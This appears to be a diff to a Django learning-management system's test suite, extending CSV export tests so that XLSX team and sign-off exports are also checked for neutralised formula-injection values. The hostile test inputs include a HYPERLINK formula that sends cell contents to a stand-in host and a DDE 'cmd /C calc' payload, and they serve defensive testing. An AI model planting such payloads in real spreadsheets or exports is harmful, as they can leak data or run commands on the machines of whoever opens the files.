@@ -15,8 +15,9 @@ import pytest
 from django.core.management import call_command
 from django.test import Client
 from django.urls import reverse
+from openpyxl import load_workbook
 
-from lms.core.exports import restore_cell, safe_cell
+from lms.core.exports import XLSX_CONTENT_TYPE, restore_cell, safe_cell
 from lms.guidelines import selectors as guideline_selectors
 from lms.guidelines import services as guideline_services
 from lms.people import roles
@@ -48,6 +49,18 @@ def csv_rows(response) -> list[list[str]]:
     assert response["Content-Type"].startswith("text/csv")
     text = b"".join(response.streaming_content).decode("utf-8-sig")
     return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def xlsx_rows(response) -> list[list[str]]:
+    """The workbook's text cells (other cells as empty text); no cell may be a formula."""
+    assert response.status_code == 200
+    assert response["Content-Type"] == XLSX_CONTENT_TYPE
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    rows = []
+    for row in sheet.iter_rows():
+        assert [cell.coordinate for cell in row if cell.data_type == "f"] == []
+        rows.append([cell.value if isinstance(cell.value, str) else "" for cell in row])
+    return rows
 
 
 def assert_no_formula(rows: list[list[str]]) -> None:
@@ -139,10 +152,15 @@ class TestTeamCsv:
             "-2+3 Social Selling",
             "=1+1",  # the full name, stripped of the tab or carriage return
         )
-        assert rows[0][:3] == ["username", "name", "department"]
-        assert ["tabby", "'=1+1", "'\t@Ops", "'-2+3 Social Selling", "course"] in [
+        assert rows[0][:3] == ["Username", "Name", "Department"]
+        assert ["tabby", "'=1+1", "'\t@Ops", "'-2+3 Social Selling", "Course"] in [
             row[:5] for row in rows
         ]
+        sheet = xlsx_rows(client.get(reverse("assignments:team_xlsx")))
+        assert sheet[1:] and len(sheet) == len(rows)
+        assert_neutralised(
+            sheet, "-2+3", "@SUM(1+1)", "\t@Ops", "-2+3 Social Selling", "=1+1"
+        )
 
 
 class TestSignOffCsv:
@@ -169,6 +187,18 @@ class TestSignOffCsv:
             "\t@Ops",
             "\t=1+1",
             "\r=1+1",
+        )
+        sheet = xlsx_rows(admin_client.get(reverse("guidelines:export_xlsx", args=[document.pk])))
+        assert len(sheet) == len(rows)
+        assert_neutralised(
+            sheet,
+            "-2+3",
+            '=HYPERLINK("http://x/?"&A1;"Click") +cmd|\' /C calc\'!A0',
+            "=cmd@example.com",
+            "@SUM(1+1)",
+            "\t@Ops",
+            "\t=1+1",
+            "\n=1+1",  # XML reads a carriage return as a line feed
         )
 
     def test_per_department(self, admin_client, hostile, document):
